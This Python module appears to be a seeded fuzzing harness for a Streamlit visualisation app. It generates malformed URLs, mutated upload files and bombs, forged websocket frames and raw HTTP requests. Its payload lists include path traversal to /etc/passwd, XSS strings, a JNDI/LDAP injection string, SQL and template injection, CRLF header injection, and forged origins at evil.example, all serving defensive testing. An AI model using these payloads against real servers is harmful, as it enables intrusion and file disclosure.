"""What the attack sends: every try is made from its group, its number and a seed, and nothing else."""

import functools
import json
import math
import random
import re
import struct
import urllib.parse
from collections.abc import Callable, Collection, Iterator, Sequence
from typing import Any, NamedTuple, get_args

from google.protobuf.message import Message
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.Common_pb2 import (
    ChatInputValue,
    FileUploaderState,
    StringTriggerValue,
    UploadedFileInfo,
)
from streamlit.proto.Components_pb2 import ArrowTable
from streamlit.proto.WidgetStates_pb2 import WidgetState

from benchmarks.tour import Stop, stops
from deqviz.scenario import Scenario
from deqviz.sweep import sweepfile, table
from deqviz.sweep.measure import measure
from deqviz.sweep.row import Measured
from deqviz.ui.components import run
from deqviz.ui.components.board.records import CommandName
from tests.io import malformed

TEXTS = (
    "",
    "\0",
    "a\0b",
    "nan",
    "-inf",
    "1e999",
    "-1",
    "0x10",
    "٣",
    "9" * 400,
    "-" + "9" * 5000,
    "x" * 2000,
    "None",
    "[]",
    "{",
    "[" * 2000,
    ",;" * 400,
    "../../../etc/passwd",
    "upload-0123456789abcdef",
    "kspace-0123456789abcdef",
    "table-0123456789abcdef",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "![a](http://192.0.2.1/a.png)",
    "**b** [x](javascript:alert(1)) $x$ :red[x]",
    "\x1b[2J\x1b]0;x\x07",
    "two\nlines\r\n\r\nand more",
    "é🔬\u202egnp.exe\u2066",
    "'; drop table runs; --",
    "${jndi:ldap://192.0.2.1/a}",
    "{{7*7}}%s%n",
)
"""Texts that stand for something else, for nothing, or for too much."""

SIZES = ("0", "-1", "1", "31", "48", "129", "512", "4096", "1e9", "2147483648", "9" * 400)
COUNTS = ("0", "-5", "1", "30", "301", "20000", "1e18", "9" * 400)


def random_of(seed: int, group: str, number: int) -> random.Random:
    """The numbers of one try, which are the same whenever it is made."""
    return random.Random(f"{seed} {group} {number}")


# ---------------------------------------------------------------- addresses


@functools.cache
def _valid() -> tuple[Stop, ...]:
    return stops()


def address(draw: random.Random) -> Stop:
    """A page and an address of one of its presets, or of another's, with up to four things changed."""
    page, query = draw.choice(_valid())
    fields = dict(urllib.parse.parse_qsl(query)) or {"seed": "1"}
    # Within the limits, so that it is the rest that is looked at.
    fields |= {name: value for name, value in (("size", "48"), ("iterations", "60")) if name in fields}
    for _ in range(draw.randint(1, 4)):
        name = draw.choice(sorted(fields))
        match draw.randrange(11):
            case 0 | 1:
                fields[name] = draw.choice(TEXTS)
            case 2:
                fields[draw.choice((draw.choice(TEXTS), f"{name}.{name}", name.upper()))] = fields[name]
            case 3:
                fields |= {draw.choice(("size", "side")): draw.choice(SIZES)}
            case 4:
                fields |= {draw.choice(("iterations", "steps", "max_steps")): draw.choice(COUNTS)}
            case 5:
                fields[name] = mutated(fields[name].encode(), draw).decode("latin-1")
            case 6:
                fields |= dict(urllib.parse.parse_qsl(draw.choice(_valid()).query)[:3])
            case 7 | 8 | 9:  # each is legal, and together they may contradict each other
                others = [stop.query for stop in _valid() if stop.page == page]
                fields |= dict(
                    draw.sample(some := urllib.parse.parse_qsl(draw.choice(others)), min(2, len(some)))
                )
            case _:
                fields[f"{name}.{draw.choice(('solver', 'weight', 'step', 'sigma'))}"] = draw.choice(TEXTS)
    written = urllib.parse.urlencode(fields)
    if draw.random() < 0.1:
        written += draw.choice(("&%00=%ff%fe", "&=&&=", "&a=%", "&" + "a=1&" * 500))
    return Stop(page if draw.random() < 0.9 else draw.choice(_valid()).page, written)


# ---------------------------------------------------------------- files


class File(NamedTuple):
    """What is uploaded, and what it is called."""

    name: str
    data: bytes


NAMES = (
    "{}",
    "a\0{}",
    "../../../etc/{}",
    "..\\..\\{}",
    "/etc/passwd{}",
    "![a](http://192.0.2.1/a){}",
    "<img src=x onerror=alert(1)>{}",
    "**b** [x](http://192.0.2.1) $x$ :red[x]{}",
    'a"; filename="b{}',
    "\x1b[2J\x07{}",
    "a\r\nX-Evil: 1\r\n{}",
    "\u202egnp{}",
    "a" * 3000 + "{}",
    "{}.exe",
    "{}/",
    "",
    ".",
)


_BOMBS = sorted(malformed.BOTTOMLESS)


@functools.cache
def _bomb(name: str) -> File:
    return File(name, malformed.BOTTOMLESS[name]())


@functools.cache
def _files() -> tuple[File, ...]:
    return tuple(File(*one) for one in malformed.files())


@functools.cache
def _good() -> tuple[File, ...]:
    settings = Scenario(size=48, iterations=30).to_json().encode()
    own = (File("a.json", settings), File("a.parquet", table.to_bytes(rows())))
    return (*(File(*one) for one in malformed.GOOD.items()), *own * 4)


@functools.cache
def rows() -> tuple[Measured, ...]:
    """What a small sweep measured."""
    text = 'size = 32\niterations = 20\nseeds = [0, 1]\noperators = ["denoising"]\nmethods = ["baseline"]'
    return tuple(measure(cell) for cell in sweepfile.parse(text).cells())


HOARD = 40 * 2**20
"""Bytes of each of many files of one tab."""


def file(draw: random.Random, number: int) -> File:
    """A bomb, one of the six hundred files, or a good one with changed bytes; often with a hostile name."""
    if number < len(_BOMBS):
        return _bomb(_BOMBS[number])
    name, data = draw.choice(_files())
    if draw.random() < 0.5:
        name, data = draw.choice(_good())
        data = mutated(data, draw)
    suffix = re.sub(r".*(?=\.)", "", name)
    return File(draw.choice(NAMES).format(suffix) if draw.random() < 0.5 else name, data)


def box(draw: random.Random, file: File) -> tuple[str, int]:
    """The page and the number of its box where such a file belongs, or any."""
    images = (("", 0), ("compare", 0), ("convergence", 0))
    kinds = {".json": (("", 0),), ".parquet": (("batch", 0),), ".h5": (("", 1),)}
    fitting = next((places for suffix, places in kinds.items() if suffix in file.name), images)
    return draw.choice(fitting if draw.random() < 0.9 else (*images, ("", 1), ("batch", 0)))


def mutated(data: bytes, draw: random.Random) -> bytes:
    """The bytes with one to four pieces changed, taken away, doubled, or replaced by something hostile."""
    bad = bytearray(data)
    for _ in range(draw.randint(1, 4)):
        at = draw.randrange(len(bad) + 1)
        end = min(len(bad), at + draw.choice((1, 2, 4, 8, 64)))
        match draw.randrange(7):
            case 0:
                bad[at:end] = draw.randbytes(end - at)
            case 1:
                del bad[at:end]
            case 2:
                bad[at:at] = bad[at:end] * draw.choice((1, 50))
            case 3:
                bad[at:end] = draw.choice(TEXTS).encode()
            case 4:
                bad[at : at + 4] = struct.pack(draw.choice(("<I", ">I")), draw.choice(malformed.EXTREMES))
            case 5 if numbers := list(re.finditer(rb"\d+(\.\d+)?", bad)):
                found = draw.choice(numbers)
                bad[found.start() : found.end()] = draw.choice((b"-1", b"1e999", b"NaN", b"9" * 400, b"[1]"))
            case _:
                del bad[draw.randrange(len(bad) + 1) :]
    return bytes(bad)


# ---------------------------------------------------------------- what a browser says

_VALUES: dict[str, Callable[[random.Random], Any]] = {
    "bool_value": lambda draw: draw.random() < 0.5,
    "trigger_value": lambda draw: draw.random() < 0.9,
    "double_value": lambda draw: draw.choice((math.nan, math.inf, -1.0, 1e308, 0.1, 5.0)),
    "int_value": lambda draw: draw.choice((-(2**52), -1, 0, 1, 7, 2**53 - 1)),
    "string_value": lambda draw: draw.choice(TEXTS),
    "double_array_value": lambda draw: draw.choices((math.nan, -1e308, 1.0), k=draw.randrange(5)),
    "int_array_value": lambda draw: draw.choices((-1, 0, 2**31), k=draw.randrange(5)),
    "string_array_value": lambda draw: draw.choices(TEXTS, k=draw.randrange(5)),
    "json_value": lambda draw: json.dumps(_nonsense(draw)) if draw.random() < 0.8 else draw.choice(TEXTS),
    "json_trigger_value": lambda draw: json.dumps(_nonsense(draw)),
    "bytes_value": lambda draw: draw.randbytes(draw.choice((0, 1, 4, 400, 40_000))),
    "arrow_value": lambda draw: ArrowTable(data=draw.randbytes(99)),
    "string_trigger_value": lambda draw: StringTriggerValue(data=draw.choice(TEXTS)),
    "chat_input_value": lambda draw: ChatInputValue(data=draw.choice(TEXTS)),
    "file_uploader_state_value": lambda draw: FileUploaderState(
        uploaded_file_info=[UploadedFileInfo(file_id=draw.choice(TEXTS), name=draw.choice(TEXTS))]
    ),
}


def forge(state: WidgetState, draw: random.Random) -> None:
    """Give a widget a value of a kind that need not be its own."""
    field = draw.choice(sorted(_VALUES))
    match value := _VALUES[field](draw):
        case list():
            getattr(state, field).data.extend(value)
        case Message():
            getattr(state, field).CopyFrom(value)
        case _:
            setattr(state, field, value)


def _nonsense(draw: random.Random, depth: int = 0) -> Any:
    leaves = (None, True, -1, 1.5, 2**53 - 1, 10**400, math.nan, "", "play", "../x", "x" * 2000)
    match draw.randrange(5 if depth < 4 else 1):
        case 1:
            return [_nonsense(draw, depth + 1) for _ in range(draw.randrange(4))]
        case 2:
            keys = ("commands", "name", "run", "number", "value", "event", "x", "\0")
            return {draw.choice(keys): _nonsense(draw, depth + 1) for _ in range(draw.randrange(4))}
        case 3:
            return [{"event": "command", "value": {"commands": list(commands(draw, ("r",)))}}]
        case _:
            return draw.choice(leaves)


def commands(draw: random.Random, runs: Sequence[str]) -> Iterator[dict[str, Any]]:
    """What the components send when something is clicked, of these runs, with numbers and names of nobody."""
    names = (*get_args(CommandName), *get_args(run.CommandName), "drag", "key", "\0", 7)
    numbers = (1, 2, 2**53 - 1, 2**53, -1, 0, 1.5, True, None, "1", 10**30)
    for _ in range(draw.randrange(40)):
        entry = {"name": draw.choice(names), "run": draw.choice((*runs, *runs, "", "x" * 300, None))}
        yield entry | {"number": draw.choice(numbers), "value": draw.choice((*numbers, "4", [1], {}))}


def triggers(draw: random.Random, runs: Sequence[str]) -> str:
    """A message of a component, as Streamlit takes it apart by events."""
    events = draw.choice((("command",), ("command", "drag", "pick", "key", "mask", "sent", "\0")))
    return json.dumps(
        [{"event": event, "value": {"commands": list(commands(draw, runs))}} for event in events]
    )


LARGE = 26 * 10**6
"""Bytes of a message that is larger than any that the server takes."""


def frame(message: BackMsg, draw: random.Random) -> bytes | str:
    """A frame of the websocket that is none of the protocol, or a message that no page sends."""
    good = message.SerializeToString()
    match draw.randrange(12):
        case 0:
            return draw.randbytes(draw.choice((1, 2, 10, 1000, 100_000)))
        case 1:
            return good[: draw.randrange(len(good))]
        case 2 | 3:
            return mutated(good, draw)
        case 4:
            return draw.choice(TEXTS)
        case 5:
            return b""
        case 6:
            message.rerun_script.query_string = "a" * (LARGE if draw.random() < 0.3 else 10**6)
        case 7:
            message.rerun_script.fragment_id = draw.choice(TEXTS[1:])
            message.rerun_script.is_auto_rerun = draw.random() < 0.5
        case 8:
            message.rerun_script.page_script_hash = draw.choice(TEXTS)
            message.rerun_script.page_name = draw.choice(TEXTS)
        case 9:
            message.rerun_script.context_info.timezone = draw.choice(TEXTS)
            message.rerun_script.context_info.locale = draw.choice(TEXTS)
            message.rerun_script.context_info.url = draw.choice(TEXTS)
            message.rerun_script.context_info.timezone_offset = draw.choice((-(2**31), 2**31 - 1))
        case 10:
            name = draw.choice(
                ("load_git_info", "set_run_on_save", "stop_script", "app_heartbeat", "clear_cache")
            )
            name = draw.choice((name, "debug_shutdown_runtime", "debug_disconnect_websocket"))
            setattr(message, name, True)
        case _:
            request = message.backend_operation_request
            request.request_id, request.session_id = draw.choice(TEXTS), draw.choice(TEXTS)
            request.deferred_file.file_id = draw.choice(TEXTS)
    return message.SerializeToString()


# ---------------------------------------------------------------- requests


class Request(NamedTuple):
    """A request as it is sent, the statuses that its answer may have, and whether it must have one."""

    data: bytes
    statuses: Collection[int] = range(100, 500)
    is_whole: bool = True


_PATHS = (
    "/",
    "/compare",
    "/_stcore/health",
    "/_stcore/host-config",
    "/_stcore/stream",
    "/_stcore/upload_file/a/b",
    "/_stcore/bidi-components/deqviz.plotly/plotly.min.js",
    "/media/a.png",
    "/component/a/b.js",
    "/static/js/a.js",
    "/app/static/a",
)
_UP = (
    "../",
    "..%2f",
    "%2e%2e/",
    "%2e%2e%2f",
    "..\\",
    "..%5c",
    "....//",
    "..;/",
    "%252e%252e%252f",
    "..%c0%af",
    "//",
)
_ENDS = (
    "etc/passwd",
    "app.py",
    "deqviz/cli.py",
    "pyproject.toml",
    ".streamlit/config.toml",
    "%00",
    "C:%5cwindows",
)
SECRETS = (b"root:x:0", b"import streamlit", b"[project]", b"maxUploadSize", b"USAGE = ")
"""What stands in the files of the machine, and in no answer."""


def request(draw: random.Random, own: str, token: str) -> Request:
    """A request from a foreign page, to another's upload, to a file of the machine, or one that is none.

    `own` is the name of the server, `token` what it gave a browser against forged requests.
    """
    path = draw.choice(_PATHS)
    method = draw.choice(("GET", "GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "BREW"))
    host = f"Host: {own}"
    cookie = f"Cookie: _streamlit_xsrf={token}\r\nX-Xsrftoken: {token}"
    match draw.randrange(6):
        case 0:
            foreign = draw.choice(
                ("evil.example", f"{own}.evil.example", "[::1", "a@127.0.0.1", "\u00e9", "*")
            )
            lines = draw.choice(
                ((f"Host: {foreign}",), (host, f"Origin: http://{foreign}"), (host, f"Host: {foreign}"))
            )
            if path == "/_stcore/stream":
                method, lines = "GET", (*lines, _UPGRADE)
            return Request(_written(method, path, *lines), {400, 403})
        case 1:
            folder = draw.choice(("/", "/static/", "/media/", "/component/", "/app/static/", f"{path}/"))
            up = "".join(draw.choice(_UP) for _ in range(draw.randint(1, 8)))
            return Request(_written("GET", folder + up + draw.choice(_ENDS), host))
        case 2:
            slash = draw.choice(("", "/", "//", "?a=b"))
            return Request(_written("GET", f"/_stcore/metrics{slash}", host), {404})
        case 3:
            session = draw.choice(("a", draw.randbytes(16).hex(), "..", "%2e%2e", "%00", "x" * 2000))
            place = f"/_stcore/upload_file/{session}/{draw.randbytes(8).hex()}"
            lines = (host, cookie) if draw.random() < 0.7 else (host,)
            body = b'--b\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\nx\r\n--b--\r\n'
            length = draw.choice((str(len(body)), "-1", "9" * 400, "1e3", "999999999"))
            kind = draw.choice(
                ("multipart/form-data; boundary=b", "multipart/form-data", "text/plain", "\x01")
            )
            return Request(
                _written("PUT", place, *lines, f"Content-Length: {length}", f"Content-Type: {kind}") + body
            )
        case 4:
            name = draw.choice(
                ("X-A", "Cookie", "Sec-WebSocket-Protocol", "Range", "Accept-Encoding", "Referer")
            )
            lines = tuple(f"{name}{n}: a" for n in range(2000)) if draw.random() < 0.3 else ()
            return Request(_written("GET", path, host, f"{name}: {'a' * draw.choice((100, 70_000))}", *lines))
        case _:
            good = _written(method, path, host, _UPGRADE if draw.random() < 0.3 else cookie)
            return Request(mutated(good, draw) + b"\r\n\r\n", is_whole=False)


_UPGRADE = "\r\n".join(
    (
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Protocol: streamlit",
    )
)


def _written(method: str, path: str, *lines: str) -> bytes:
    """The head of a request; the server closes the connection after it unless it becomes a websocket."""
    end = () if _UPGRADE in lines else ("Connection: close",)
    return "\r\n".join((f"{method} {path} HTTP/1.1", *lines, *end, "", "")).encode("utf-8")
